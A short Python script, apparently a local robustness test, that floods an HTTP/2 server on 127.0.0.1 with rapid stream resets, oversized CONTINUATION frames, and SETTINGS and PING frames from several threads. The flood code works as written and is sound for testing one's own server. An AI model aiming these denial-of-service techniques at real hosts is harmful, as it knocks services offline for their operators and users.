"""Floods a server with HTTP/2 frames over TLS: resets, continuations, settings, pings, a header of 1 MB. Its argument is the port."""

import socket
import ssl
import struct
import sys
import threading

HEADER = b"\x82\x87\x84\x41\x01x"  # GET, https, /, authority x
HEADERS, RESET, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    stream = context.wrap_socket(socket.create_connection(("127.0.0.1", int(sys.argv[1]))))
    assert stream.selected_alpn_protocol() == "h2"
    stream.settimeout(20)
    stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
    return stream


def flood(frames):
    """Sends until the server has had enough."""
    try:
        stream = connect()
        for one in frames:
            stream.sendall(one)
    except OSError:
        pass


def resets(count):
    for number in range(1, 2 * count, 2):
        yield frame(HEADERS, 5, number, HEADER) + frame(RESET, 0, number, struct.pack(">I", 8))


def continuations(count):
    yield frame(HEADERS, 1, 1, HEADER)
    for _ in range(count):
        yield frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x80\x7f" + b"b" * 16000)


def settings(count):
    return (frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64") for _ in range(count))


def pings(count):
    return (frame(PING, 0, 0, b"12345678") for _ in range(count))


flood(resets(10000))
flood(continuations(2000))
flood(settings(10000))
flood(pings(10000))
flood(continuations(64))
threads = [threading.Thread(target=flood, args=(make(2000),)) for make in (resets, settings) for _ in range(8)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
